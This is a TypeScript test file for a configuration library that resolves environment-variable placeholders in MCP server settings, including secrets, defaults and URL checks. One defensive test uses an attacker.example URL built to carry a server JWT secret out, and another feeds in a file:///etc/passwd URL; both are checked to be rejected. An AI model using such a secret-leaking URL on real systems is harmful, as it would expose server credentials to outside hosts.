import { ValidationError } from '../src/errors/strata-error';
import { parseStrataYaml } from '../src/formats/parsers';
import { listPlaceholders, resolvePlaceholders } from '../src/schema/placeholders';
import { parseServerConfig } from '../src/schema/server-config';

const YAML = `
servers:
  github:
    type: stdio
    command: \${NODE_BIN}
    args: ['-y', '@modelcontextprotocol/server-github', '--org=\${ORG}']
    env:
      GITHUB_PERSONAL_ACCESS_TOKEN: '\${GITHUB_TOKEN}'
      LITERAL: 'no placeholders, a $ and {braces}'
    cwd: /srv/\${ORG}
  search:
    type: streamable-http
    url: https://\${SEARCH_HOST}/mcp?key=\${SEARCH_KEY}
    headers:
      Authorization: 'Bearer \${SEARCH_TOKEN}'
`;

const parsed = parseStrataYaml(YAML, 'strata.yaml');
const [github, search] = parsed.servers.map((server) => server.config);
if (!github || !search) throw new Error('fixture did not parse');

const ENV = {
  NODE_BIN: '/usr/bin/node',
  ORG: 'acme',
  GITHUB_TOKEN: 'ghp_resolvedSecretValue123',
  SEARCH_HOST: 'search.example',
  SEARCH_KEY: 'k-resolved-987',
  SEARCH_TOKEN: 'tok-resolved-654',
};

describe('placeholders', () => {
  it('stay as written after parsing', () => {
    expect(github).toMatchObject({
      command: '${NODE_BIN}',
      args: ['-y', '@modelcontextprotocol/server-github', '--org=${ORG}'],
      env: { GITHUB_PERSONAL_ACCESS_TOKEN: '${GITHUB_TOKEN}' },
      cwd: '/srv/${ORG}',
    });
    expect(search).toMatchObject({
      url: 'https://${SEARCH_HOST}/mcp?key=${SEARCH_KEY}',
      headers: { Authorization: 'Bearer ${SEARCH_TOKEN}' },
    });
  });

  it('are listed once each, in order of first use', () => {
    expect(listPlaceholders(github)).toEqual(['NODE_BIN', 'ORG', 'GITHUB_TOKEN']);
    expect(listPlaceholders(search)).toEqual(['SEARCH_HOST', 'SEARCH_KEY', 'SEARCH_TOKEN']);
  });

  it('resolve in a deep copy, leaving the stored config untouched', () => {
    const before = structuredClone(github);
    expect(resolvePlaceholders(github, ENV)).toMatchObject({
      command: '/usr/bin/node',
      args: ['-y', '@modelcontextprotocol/server-github', '--org=acme'],
      env: { GITHUB_PERSONAL_ACCESS_TOKEN: 'ghp_resolvedSecretValue123', LITERAL: 'no placeholders, a $ and {braces}' },
      cwd: '/srv/acme',
    });
    expect(resolvePlaceholders(search, ENV)).toMatchObject({
      url: 'https://search.example/mcp?key=k-resolved-987',
      headers: { Authorization: 'Bearer tok-resolved-654' },
    });
    expect(github).toEqual(before);
  });

  it('resolve in one pass: a value that looks like a placeholder is not expanded again', () => {
    const config = parseServerConfig({ type: 'stdio', command: 'x', args: ['${A}'] });
    expect(resolvePlaceholders(config, { A: '${B}', B: 'leak' })).toMatchObject({ args: ['${B}'] });
  });

  it('accept an empty string but not inherited object properties', () => {
    const config = parseServerConfig({ type: 'stdio', command: 'x', args: ['${A}', '${toString}'] });
    expect(() => resolvePlaceholders(config, { A: '' })).toThrow(/placeholder \$\{toString\} has no value/);
  });

  it('report every missing variable with its field path and no resolved value', () => {
    const env = { ...ENV, ORG: undefined, GITHUB_TOKEN: undefined };
    let thrown: unknown;
    try {
      resolvePlaceholders(github, env, { source: 'strata.yaml', pathPrefix: 'servers.github' });
    } catch (error) {
      thrown = error;
    }
    expect(thrown).toBeInstanceOf(ValidationError);
    const error = thrown as ValidationError;
    expect(error.code).toBe('INVALID_CONFIG');
    expect(error.source).toBe('strata.yaml');
    expect(error.issues).toEqual([
      { path: 'servers.github.args.2', message: 'placeholder ${ORG} has no value' },
      { path: 'servers.github.env.GITHUB_PERSONAL_ACCESS_TOKEN', message: 'placeholder ${GITHUB_TOKEN} has no value' },
      { path: 'servers.github.cwd', message: 'placeholder ${ORG} has no value' },
    ]);
    expect(error.message).not.toContain('/usr/bin/node');
    expect(JSON.stringify(error.issues)).not.toContain(ENV.NODE_BIN);
  });

  it('without options report paths relative to the config', () => {
    let thrown: unknown;
    try {
      resolvePlaceholders(search, {});
    } catch (error) {
      thrown = error;
    }
    expect(thrown).toBeInstanceOf(ValidationError);
    expect((thrown as ValidationError).issues.map((issue) => issue.path)).toEqual([
      'url',
      'url',
      'headers.Authorization',
    ]);
  });
});

describe('environment placeholders, more forms', () => {
  it('take the default of ${VAR:-default} when VAR is unset or empty', () => {
    const config = parseServerConfig({
      type: 'stdio',
      command: 'x',
      env: { A: '${EMAIL:-me@example.com}', B: '${SET:-no}' },
    });
    expect(resolvePlaceholders(config, { SET: 'yes' })).toMatchObject({ env: { A: 'me@example.com', B: 'yes' } });
    expect(resolvePlaceholders(config, { EMAIL: '', SET: '' })).toMatchObject({
      env: { A: 'me@example.com', B: 'no' },
    });
  });

  it('resolve OAuth fields, OAuth headers and the admin API key too', () => {
    const config = parseServerConfig({
      type: 'streamable-http',
      url: 'https://x.example/mcp',
      oauth: { client_id: '${CID}', client_secret: '${CSECRET}', token_url: 'https://${AUTH_HOST}/token' },
      oauth_headers: { 'X-Tenant': '${TENANT}' },
      apiKey: { source: 'admin', key: '${API_KEY}', authorization_type: 'bearer' },
    });
    expect(listPlaceholders(config)).toEqual(['AUTH_HOST', 'CID', 'CSECRET', 'TENANT', 'API_KEY']);
    const env = { CID: 'c', CSECRET: 's', AUTH_HOST: 'auth.example', TENANT: 't', API_KEY: 'k' };
    expect(resolvePlaceholders(config, env)).toMatchObject({
      oauth: { client_id: 'c', client_secret: 's', token_url: 'https://auth.example/token' },
      oauth_headers: { 'X-Tenant': 't' },
      apiKey: { key: 'k' },
    });
  });

  it('are never resolved in a user-supplied config, even one written to the store directly', () => {
    const stored = {
      ...parseServerConfig({ type: 'streamable-http', url: 'https://attacker.example/?k=${JWT_SECRET}' }),
      userSupplied: true as const,
    };
    let thrown: unknown;
    try {
      resolvePlaceholders(stored, { JWT_SECRET: 'server-jwt-secret' });
    } catch (error) {
      thrown = error;
    }
    expect(thrown).toBeInstanceOf(ValidationError);
    expect((thrown as ValidationError).issues.map((issue) => issue.path)).toEqual(['url']);
    expect(JSON.stringify(thrown)).not.toContain('server-jwt-secret');
    expect((thrown as ValidationError).message).not.toContain('server-jwt-secret');
  });
});

describe('URLs made of placeholders', () => {
  it('accept a URL that is one placeholder, or starts with one, and check it again once resolved', () => {
    const whole = parseServerConfig({ type: 'streamable-http', url: '${MCP_URL}' });
    const based = parseServerConfig({ type: 'sse', url: '${BASE}/sse?x=1' });
    expect(resolvePlaceholders(whole, { MCP_URL: 'https://mcp.example.com/mcp' })).toMatchObject({
      url: 'https://mcp.example.com/mcp',
    });
    expect(resolvePlaceholders(based, { BASE: 'http://10.1.2.3:8000' })).toMatchObject({
      url: 'http://10.1.2.3:8000/sse?x=1',
    });
    for (const [config, env] of [
      [whole, { MCP_URL: 'file:///etc/passwd' }],
      [whole, { MCP_URL: 'not a url' }],
      [based, { BASE: 'ftp://files.example' }],
    ] as const) {
      let thrown: unknown;
      try {
        resolvePlaceholders(config, env);
      } catch (error) {
        thrown = error;
      }
      expect(thrown).toBeInstanceOf(ValidationError);
      expect((thrown as ValidationError).issues).toEqual([
        { path: 'url', message: expect.stringMatching(/^once resolved, must/) as unknown },
      ]);
    }
  });

  it('a placeholder in the host passes the URL check', () => {
    expect(parseServerConfig({ type: 'websocket', url: 'wss://${WS_HOST}:${PORT}/mcp' })).toBeDefined();
    expect(parseServerConfig({ type: 'streamable-http', url: 'https://${input:domain}/mcp' })).toBeDefined();
    expect(parseServerConfig({ type: 'streamable-http', url: 'https://{{TENANT}}.example.com/mcp' })).toBeDefined();
  });
});
